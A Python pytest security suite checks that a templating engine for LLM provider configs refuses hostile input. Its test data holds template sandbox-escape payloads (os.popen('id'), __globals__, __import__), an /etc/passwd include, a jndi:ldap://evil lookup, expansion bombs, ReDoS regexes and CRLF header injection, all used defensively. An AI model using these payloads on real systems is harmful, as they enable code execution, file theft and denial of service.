"""Templates, queries and patterns of a stranger: caged, counted, never slow (RELIABILITY A4, A5, A6; SPEC_LANGUAGE 16)."""

from __future__ import annotations

import json
import time
from pathlib import Path

import httpx
import pytest

import engine
from engine.check import check
from engine.errors import ConfigError, Error, LimitError, SpecError
from engine.spec.pattern import PatternError, compile_pattern, glob_matches, pattern_matches
from tests.security.strangers import ANSWER, BARE, CHAT, HEAD, HOST, KEY, client, leaks, local, stranger

ESCAPES = [
    "''.__class__.__mro__[1].__subclasses__()",
    "messages.__class__",
    "messages['__class__']",
    "messages[0].__init__.__globals__",
    "model | attr('__class__')",
    "self",
    "self.__init__",
    "cycler.__init__.__globals__.os.popen('id').read()",
    "lipsum.__globals__['os']",
    "joiner",
    "namespace",
    "range(10)",
    "dict(a=1)",
    "__builtins__",
    "__import__('os')",
    "_K1",
    "_F1",
    "c",
    "__marks__",
    "model.format(model)",
    "'{0.__class__}'.format(model)",
    "'%s' % model",
    "model * 1000000000",
    "'x' * 1000000000",
    "[1] * 1000000000",
    "9 ** 9 ** 9",
    "messages.append(1)",
    "messages.pop()",
    "messages.clear()",
    "tables.__class__",
    "model_info.__class__",
    "uuid.__globals__",
    "parts.__globals__",
    "now.__self__",
    "messages | map(attribute='__class__')",
    "model is callable",
    "$report",
    "$operation",
    "api_key",
    "hmac256('a', 'b')",
    "sha256('a')",
    "request",
    "config",
    "g",
    "loop",
    "super()",
]
SPOTS = {
    "body": '  body: {{a: "{{{{ {e} }}}}"}}\n  post: /x\n',
    "path": '  post: "/x/{{{{ {e} }}}}"\n',
    "query": '  post: /x\n  query: {{a: "{{{{ {e} }}}}"}}\n',
    "header": '  post: /x\n  headers: {{X-A: "{{{{ {e} }}}}"}}\n',
    "for": '  post: /x\n  body: {{a: {{$for: "i in {e}", $value: 1}}}}\n',
    "if": '  post: /x\n  body: {{a: {{$if: "{e}", $value: 1}}}}\n',
    "param": '  post: /x\n  params: {{temperature: {{to: t, value: "{{{{ {e} }}}}"}}}}\n',
}


@pytest.mark.parametrize("spot", SPOTS)
@pytest.mark.parametrize("escape", ESCAPES)
def test_a4_escapes_are_refused_wherever_they_stand(escape: str, spot: str) -> None:
    text = HEAD + "chat:\n" + SPOTS[spot].format(e=escape.replace('"', '\\"').replace("\\", "\\\\")) + BARE
    for source in (stranger(text), local(text)):
        made, seen = client(source)
        with pytest.raises(ConfigError):
            made.call("chat", "stranger/m", messages=[{"role": "user", "content": "hi"}], temperature=1)
        assert not seen


@pytest.mark.parametrize("spot", [*SPOTS, "parts", "variables", "before", "base"])
def test_a4_a_secret_is_no_name_outside_auth(spot: str) -> None:
    """SPEC_LANGUAGE 16: credentials never reach a body, a part, a URL, a variable or a call made ahead."""
    extra = {
        "parts": '  post: /x\n  body: {a: "{{ parts(messages[0].parts) }}"}\n  parts: {text: {t: "{{ api_key }}"}}\n',
        "before": '  before: {v: {post: "/t?k={{ api_key }}", value: v}}\n  post: "/x/{{ v }}"\n',
        "variables": '  post: "/x/{{ v }}"\n',
        "base": "  post: /x\n",
    }
    text = HEAD + "chat:\n" + (extra.get(spot) or SPOTS[spot].format(e="api_key")) + BARE
    if spot == "variables":
        text += 'variables: {v: {default: "{{ api_key }}"}}\n'
    if spot == "base":
        text = text.replace(f"https://{HOST}/v1", f'"https://{HOST}/{{{{ api_key }}}}"')
    made, seen = client(local(text))
    with pytest.raises(ConfigError) as caught:
        made.call("chat", "stranger/m", messages=[{"role": "user", "content": "hi"}], temperature=1)
    assert not seen and not leaks(str(caught.value))


def test_a4_answers_and_prompts_are_never_templates() -> None:
    """A4, M4: what is rendered once is data; expressions in a prompt, a tool or an answer stay text."""
    evil = '{{ api_key }} {% include "/etc/passwd" %} ${jndi:ldap://evil} {{ 7*7 }} %(x)s {0.__class__}'
    made, seen = client(
        local(HEAD + CHAT),
        reply=lambda r: httpx.Response(
            200,
            json={
                **ANSWER,
                "choices": [
                    {
                        "index": 0,
                        "message": {
                            "content": evil,
                            "tool_calls": [{"id": "1", "function": {"name": evil, "arguments": json.dumps({"a": evil})}}],
                        },
                        "finish_reason": "stop",
                    }
                ],
            },
        ),
    )
    tool = {
        "type": "function",
        "function": {"name": "f", "description": evil, "parameters": {"type": "object", "properties": {evil: {}}}},
    }
    answer = made.chat("stranger/m", evil, tools=[tool], user=evil)
    sent = json.loads(seen[0].content)
    assert sent["messages"][0]["content"] == evil and sent["tools"][0]["function"]["description"] == evil
    assert answer.text == evil and answer.tool_calls[0].arguments == {"a": evil}
    again = made.chat(
        "stranger/m",
        [{"role": "user", "content": "a"}, {"role": "assistant", "content": answer.text}, {"role": "user", "content": "b"}],
    )
    assert again.text == evil and json.loads(seen[1].content)["messages"][1]["content"] == evil


LOOPS = {
    "four loops": (
        "  body: {k: {$for: a in messages, $value: {$for: b in messages, $value: {$for: c in messages, "
        '$value: {$for: d in messages, $value: "{{ a.text }}"}}}}}\n'
    ),
    "wide": "  body: {" + ", ".join(f'k{i}: "{{{{ messages }}}}"' for i in range(600)) + "}\n",
    "wide text": "  body: {" + ", ".join(f'k{i}: "x{{{{ messages[0].text }}}}"' for i in range(600)) + "}\n",
    "join": '  body: {k: {$join: "'
    + "x" * 1000
    + '", $value: {$for: a in messages, $value: {$for: b in messages, $value: "{{ a.text }}"}}}}\n',
    "replace": "  body: {k: \"{{ messages[0].text | replace('a', '"
    + "b" * 2000
    + "') | replace('b', '"
    + "c" * 2000
    + "') }}\"}\n",
    "json": '  body: {k: "{{ messages' + " | json" * 40 + ' }}"}\n',
    "base64": '  body: {k: "{{ messages | json' + " | b64" * 40 + ' }}"}\n',
    "doubling": '  body: {k: "{{ ' + "(" * 30 + "messages[0].text" + " ~ messages[0].text)" * 30 + ' }}"}\n',
    "parts in parts": (
        '  parts: {text: {a: "{{ parts(messages[0].parts) }}", b: "{{ parts(messages[0].parts) }}"}}\n'
        '  body: {k: "{{ parts(messages[0].parts) }}"}\n'
    ),
    "five loops": "  body: {k: " + "{$for: a in messages, $value: " * 5 + "1" + "}" * 5 + "}\n",
}


@pytest.mark.parametrize("name", LOOPS)
@pytest.mark.parametrize("messages", [1, 300])
def test_a4_a_template_bomb_ends_in_a_typed_error(name: str, messages: int) -> None:
    """4 MiB for a stranger, whatever it is built from; the time is bounded with it."""
    made, seen = client(stranger(HEAD + "chat:\n  post: /x\n" + LOOPS[name] + BARE))
    start = time.process_time()
    try:
        made.call("chat", "stranger/m", messages=[{"role": "user", "content": "a" * 3000}] * messages)
    except Error as error:
        assert error.kind in ("config", "limit"), error
        assert not seen
    else:
        assert len(seen[0].content) <= 5 << 20
    assert time.process_time() - start < 8


@pytest.mark.parametrize("name", ["auth", "header", "query", "path"])
def test_a4_the_limit_holds_outside_bodies(name: str) -> None:
    bomb = "{{ user" + " | replace('a', '" + "a" * 900 + "')" * 1 + " }}"
    text = HEAD + "chat:\n  post: /x\n" + BARE
    text = {
        "auth": text.replace(
            "{{ api_key }}", "{{ api_key | replace('a', '" + "a" * 3000 + "') | replace('a', '" + "a" * 3000 + "') }}"
        ),
        "header": text + f'  headers: {{X-A: "{bomb}"}}\n',
        "query": text + f'  query: {{a: "{bomb}"}}\n',
        "path": text.replace("post: /x", f'post: "/{bomb}"'),
    }[name]
    made, seen = client(stranger(text))
    with pytest.raises(Error) as caught:
        made.call("chat", "stranger/m", messages=[{"role": "user", "content": "hi"}], user="a" * 50_000)
    assert caught.value.kind in ("config", "limit") and not seen


# --- A5 -----------------------------------------------------------------------------------------------------------------

QUERIES = {
    "deep": "a" + ".a" * 300,
    "parentheses": "(" * 200 + "a" + ")" * 200,
    "flattened": "a" + "[]" * 300,
    "pipes": "a" + " | a" * 300,
    "wide": "[" + ", ".join(["a"] * 400) + "]",
    "doubling": "@" + " | [@, @]" * 28,
    "doubling hash": "@" + " | {a: @, b: @}" * 28,
    "doubling projection": "choices" + "[].[@, @][]" * 20,
    "literal": "`" + json.dumps("x" * 5000) + "`",
    "deep literal": "`" + "[" * 3000 + "]" * 3000 + "`",
    "map of map": "map(&map(&map(&map(&@, $), $), $), $)".replace("$", "choices"),
    "joins": "join('" + "x" * 1000 + "', choices[].message.content)",
    "sorts": "sort_by(choices, &sort_by(choices, &message.content)[0].message.content)",
    "reverse": "reverse(" * 40 + "@" + ")" * 40,
    "unknown function": "eval('1')",
    "attribute": "choices.__class__",
    "number": "choices[99999999999999999999]",
    "slice": "choices[::0]",
    "huge slice": "choices[0:99999999999:1]",
}


@pytest.mark.parametrize("name", QUERIES)
@pytest.mark.parametrize("where", ["response", "errors", "stream"])
def test_a5_a_query_bomb_ends_in_a_typed_error(name: str, where: str) -> None:
    query = json.dumps(QUERIES[name])
    text = HEAD + "chat:\n  post: /x\n"
    if where == "response":
        text += f"  response: {{text: {query}}}\n"
    elif where == "errors":
        text += BARE + f"  errors: {{message: {query}}}\n"
    else:
        text += BARE + f"  stream: {{map: {{text: {query}}}}}\n"
    many = {"text": "x", "choices": [{"message": {"content": "y" * 50}}] * 2000}

    def reply(request: httpx.Request) -> httpx.Response:
        if where == "stream":
            return httpx.Response(
                200, text=f"data: {json.dumps(many)}\n\ndata: [DONE]\n\n", headers={"content-type": "text/event-stream"}
            )
        return httpx.Response(500 if where == "errors" else 200, json=many)

    start = time.process_time()
    try:
        made, _ = client(stranger(text), reply=reply)
        if where == "stream":
            made.chat.stream("stranger/m", "hi").finish()
        else:
            made.chat("stranger/m", "hi")
    except Error as error:
        assert error.kind in ("config", "limit", "protocol", "server", "stream_interrupted"), error
    assert time.process_time() - start < 8


# --- A6 -----------------------------------------------------------------------------------------------------------------

SLOW = {
    "(a+)+$": "a" * 40 + "!",
    "(a|a)*$": "a" * 40 + "!",
    "(a|aa)+$": "a" * 60 + "!",
    "(.*)*x": "a" * 60,
    "([a-z]+)*-": "a" * 60,
    "(?:a?){50}a{50}": "a" * 50,
    "a*a*a*a*a*a*a*a*b": "a" * 200,
    "a*" * 60 + "b": "a" * 4000,
    "[a-z]*[a-z0-9]*[a-z-]*[a-z_]*!": "a" * 3000,
    "(a|a)" * 39 + "b": "a" * 39,
    "a?" * 30 + "a" * 30 + "b": "a" * 30,
    "a{0,30}" * 20 + "b": "a" * 60,
    "(a)\\1+": "a" * 3000,
    "(?P<x>a)(?P=x)": "aa",
    "(?=(a+)+b)a": "a" * 40,
    "x" * 201: "x" * 201,
    "(": "a",
    "(?i:(a|A)+)+b": "a" * 40,
    "((a*)*)*": "a" * 40 + "b",
    "(-[a-z]+)+-(-[a-z]+)+!": "-a" * 1000,
}


@pytest.mark.parametrize("pattern", SLOW)
def test_a6_no_pattern_is_slow(pattern: str, tmp_path: Path) -> None:
    """By every door: bound as a setting, used by a stranger, checked."""
    text = HEAD + f"variables: {{v: {{pattern: {json.dumps(pattern)}}}}}\n" + CHAT
    start = time.process_time()
    for source in (stranger(text), local(text)):
        made, seen = client(source, settings={"v": SLOW[pattern]})
        try:
            made.chat("stranger/m", "hi")
        except ConfigError:
            assert not seen
    path = tmp_path / "stranger.yaml"
    path.write_text(text)
    check(engine.Catalog([path]), [("providers", "stranger")])
    assert time.process_time() - start < 5


@pytest.mark.parametrize(
    "pattern",
    ["[a-z]+(-[a-z]+)+-[0-9]", "[A-Za-z0-9-]+", "[a-z]{2}(-[a-z]+)?-[0-9]{1,2}", "eu|us|ap", "[a-z0-9]([a-z0-9-]*[a-z0-9])?"],
)
def test_a6_honest_patterns_match_honest_values(pattern: str) -> None:
    values = ["us-east-1", "us-gov-west-1", "my-resource-0123456789", "eu", "ap-south-1"]
    assert any(pattern_matches(pattern, v) for v in values)
    assert not any(pattern_matches(pattern, v) for v in ("a.b", "a/b", "a" * 5000, "", "é"))


@pytest.mark.parametrize(
    "glob", ["*a" * 99 + "b", "*" * 200, "[a-z]*" * 33, "?*" * 90 + "0", "[" * 200, "*[!a]" * 40, "x" * 201, "[]-a]*", "[\\]*"]
)
def test_a6_globs_are_linear(glob: str) -> None:
    start = time.process_time()
    for model in ("a" * 4096, "b" * 5000, "a" * 50 + "b", "ab" * 2000):
        try:
            glob_matches(glob, model)
        except PatternError:
            pass
        made, _ = client(stranger(HEAD + CHAT + f"models: {{{json.dumps(glob)}: {{headers: {{X-A: b}}}}}}\n"))
        try:
            made.chat(f"stranger/{model}", "hi")
        except (SpecError, LimitError):
            pass
    assert time.process_time() - start < 4


def test_a6_patterns_are_anchored() -> None:
    text = HEAD + 'variables: {v: {pattern: "[a-z]+"}}\nheaders: {X-V: "{{ v }}"}\n' + CHAT
    for value in ("abc1", "1abc", "abc\n", "abc\r\nX: y", "", " "):
        made, seen = client(local(text), settings={"v": value})
        try:
            made.chat("stranger/m", "hi")
        except ConfigError:
            pass
        assert not any(r.headers.get("x-v") not in (None, "abc") for r in seen), value
    assert KEY and compile_pattern("[a-z]+")
